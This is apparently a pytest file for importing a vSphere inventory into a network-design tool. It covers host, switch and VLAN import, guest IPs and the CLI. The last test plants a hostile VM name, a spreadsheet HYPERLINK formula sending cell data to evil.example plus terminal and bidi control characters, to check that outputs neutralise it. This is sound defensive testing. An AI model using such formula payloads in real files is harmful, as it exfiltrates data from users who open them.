"""Import: the inventory in bulk, turned into a design that opens on the canvas and predicts at once."""

from __future__ import annotations

import csv
import io

import vnetbench_vsphere.inventory as inventory
from pyVmomi import vim
from vnetbench.cli.main import main
from vnetbench.model import Index, NicType, SwitchKind, dumps, load, loads
from vnetbench.model.validate import validate
from vnetbench.predict.engine import predict

from vsphere_designs import lab_design


def test_import_default_inventory(backend, monkeypatch):
    calls = []
    real = inventory.retrieve
    monkeypatch.setattr(inventory, "retrieve", lambda *a: calls.append(1) or real(*a))
    seen = []
    topo = backend.import_design(lambda done, total, msg: seen.append(done))
    assert len(calls) == 2, "one bulk read of the tree, one of the hosts' network systems"
    assert seen[-1] == 3

    assert sorted(h.name for h in topo.hosts) == ["DC0_C0_H0", "DC0_C0_H1", "DC0_C0_H2", "DC0_H0"]
    pnics = topo.hosts[0].pnics
    assert [p.name for p in pnics] == ["vmnic0", "vmnic1"] and all(p.speed_mbps > 0 for p in pnics)
    dvs = next(s for s in topo.switches if s.kind is SwitchKind.VDS)
    assert dvs.name == "DVS0" and [pg.name for pg in dvs.portgroups] == ["DC0_DVPG0"], "uplink portgroup left out"
    assert len(dvs.members) == 4
    vss = [s for s in topo.switches if s.kind is SwitchKind.VSS]
    assert len(vss) == 4 and all(s.host for s in vss)
    index = Index(topo)
    assert len(topo.vms) == 4
    for vm in topo.vms:
        assert vm.vnics and all(index.kind(n.network) == "portgroup" for n in vm.vnics), vm.name
    for obj_id, entry in index.entries.items():
        if entry.kind in ("host", "switch", "portgroup", "vm"):
            assert obj_id in topo.layout.places, f"{entry.kind} {obj_id} has no place on the canvas"
    assert dumps(loads(dumps(topo))) == dumps(topo), "the design survives its file format"
    assert [p for p in validate(topo) if p.severity == "error"] == []


def test_import_what_vnetbench_deployed(backend):
    design = lab_design()
    design.vms[0].guest_os = "windows-10"  # a guest that takes the vmxnet3 + e1000e mix without warnings
    assert all(r.ok for r in backend.apply(backend.plan(design)))
    topo = backend.import_design()
    lab = next(s for s in topo.switches if s.name == "lab")  # the vnb- prefix is gone
    assert {pg.name: pg.vlan for pg in lab.portgroups} == {"untagged": 0, "vlan10": 10, "all-vlans": 4095}
    assert next(pg for pg in lab.portgroups if pg.name == "all-vlans").security.promiscuous is True
    dvs = next(s for s in topo.switches if s.name == "vnb-test-dvs")
    assert {pg.name: pg.vlan for pg in dvs.portgroups} == {"dv-vlan20": 20, "dv-trunk": "trunk 100-200,300"}
    assert next(pg for pg in dvs.portgroups if pg.name == "dv-trunk").security.forged_transmits is False
    index = Index(topo)
    vm_a = next(vm for vm in topo.vms if vm.name == "vnb-test-a")
    assert [n.type for n in vm_a.vnics] == [NicType.VMXNET3, NicType.E1000E]
    assert [index.get(n.network).name for n in vm_a.vnics] == ["untagged", "vlan10"]
    assert vm_a.guest_os == "windows-10"
    vm_b = next(vm for vm in topo.vms if vm.name == "vnb-test-b")
    assert index.get(vm_b.vnics[0].network).name == "dv-vlan20"

    # Predictions work on the imported design straight away (addresses as Tools would report them).
    vm_c = next(vm for vm in topo.vms if vm.name == "vnb-test-c")
    vm_b.vnics[0].ip, vm_c.vnics[0].ip = "10.20.0.2/24", "10.20.0.3/24"
    result = predict(topo, vm_b.id, vm_c.id)
    assert result.verdict and result.forward.src


def test_guest_ip_addresses_come_from_vmware_tools():
    nic = vim.vm.GuestInfo.NicInfo(
        deviceConfigId=4000, macAddress="00:50:56:aa:bb:cc", ipAddress=["10.1.2.3", "fe80::1"],
        ipConfig=vim.net.IpConfigInfo(ipAddress=[
            vim.net.IpConfigInfo.IpAddress(ipAddress="10.1.2.3", prefixLength=24),
            vim.net.IpConfigInfo.IpAddress(ipAddress="fe80::1", prefixLength=64)]))
    other = vim.vm.GuestInfo.NicInfo(deviceConfigId=4001, macAddress="00:50:56:00:00:01", ipAddress=["192.0.2.9"])
    assert inventory._ips([nic, other], 4000, None) == [("10.1.2.3", 24)]
    assert inventory._ips([nic, other], 4001, "00:50:56:00:00:01") == [("192.0.2.9", None)]
    assert inventory._ips([nic, other], 4002, "00:50:56:AA:BB:CC") == [("10.1.2.3", 24)], "matched by MAC"


def test_dvportgroup_vlan_notation():
    dvs = vim.dvs.VmwareDistributedVirtualSwitch
    assert inventory.dvpg_vlan(dvs.VlanIdSpec(vlanId=0)) == 0
    assert inventory.dvpg_vlan(dvs.VlanIdSpec(vlanId=42)) == 42
    assert inventory.dvpg_vlan(dvs.TrunkVlanSpec(vlanId=[vim.NumericRange(start=0, end=4094)])) == "trunk"
    assert inventory.dvpg_vlan(dvs.TrunkVlanSpec(vlanId=[vim.NumericRange(start=30, end=30),
                                                         vim.NumericRange(start=10, end=20)])) == "trunk 10-20,30"


def test_cli_import_writes_a_design(backend, vcsim, tmp_path, capsys):
    out = tmp_path / "imported.vnet.yaml"
    code = main(["import", "--backend", "vsphere", "--url", vcsim.url, "--user", vcsim.user,
                 "--set", f"pin_file={backend.settings['pin_file']}", "-o", str(out), "--name", "DC import"])
    assert code == 0, capsys.readouterr().err
    topo = load(out)
    assert topo.name == "DC import" and len(topo.hosts) == 4


def test_a_hostile_vm_name_from_vcenter_stays_data_in_every_output(backend, vcsim, tmp_path, capsys):
    """A VM named like a spreadsheet formula with a terminal escape and a right-to-left override in vCenter
    reaches a design through import as it is; the filters sit at the outputs (issue 33), so ``show``,
    ``matrix --csv`` and the ``matrix-csv`` export keep it data."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")\x9b2J\u202e'  # SOAP (XML) carries C1, not C0
    vcsim.govc("object.rename", "/DC0/vm/DC0_H0_VM0", hostile)
    out = tmp_path / "imported.vnet.yaml"
    assert main(["import", "--backend", "vsphere", "--url", vcsim.url, "--user", vcsim.user,
                 "--set", f"pin_file={backend.settings['pin_file']}", "-o", str(out)]) == 0
    capsys.readouterr()
    assert hostile in [vm.name for vm in load(out).vms]  # import keeps names as they are: filters sit at outputs
    main(["show", str(out)])
    shown = capsys.readouterr().out
    assert "\x9b" not in shown and "\u202e" not in shown
    assert '=HYPERLINK("http://evil.example/?"&A1,"click")\\x9b2J\\u202e' in shown
    main(["matrix", "--csv", str(out)])
    cells = [c for row in csv.reader(io.StringIO(capsys.readouterr().out, newline="")) for c in row]
    exported = tmp_path / "m.csv"
    assert main(["export", str(out), "--format", "matrix-csv", "-o", str(exported)]) == 0
    cells += [c for row in csv.reader(io.StringIO(exported.read_text(encoding="utf-8"), newline="")) for c in row]
    named = [c for c in cells if "HYPERLINK" in c]
    assert named and all(c.startswith("'=HYPERLINK") and "\x9b" not in c and "\u202e" not in c for c in named)
